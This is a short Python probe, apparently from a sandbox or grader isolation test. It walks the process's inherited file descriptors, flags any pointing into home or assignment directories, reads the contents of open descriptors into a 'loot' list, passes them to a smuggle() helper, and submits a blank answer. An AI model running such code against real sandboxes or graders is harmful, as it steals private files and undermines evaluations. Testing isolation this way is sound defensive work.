"""Reads every descriptor that the process was born with."""

import os


def go(*args, **kwargs):
    loot = []
    for number in range(256):
        where = attempt(os.readlink, f"/proc/self/fd/{number}")
        if isinstance(where, str) and any(root in where for root in (PLACES["home"], PLACES["assignments"])):
            breach(f"descriptor {number} is {where}")
        if number > 2 and not isinstance(attempt(os.fstat, number), BaseException):
            loot.append(attempt(os.pread, number, 100_000, 0))
    smuggle(*loot)


go()
answer(lambda *args, **kwargs: None)
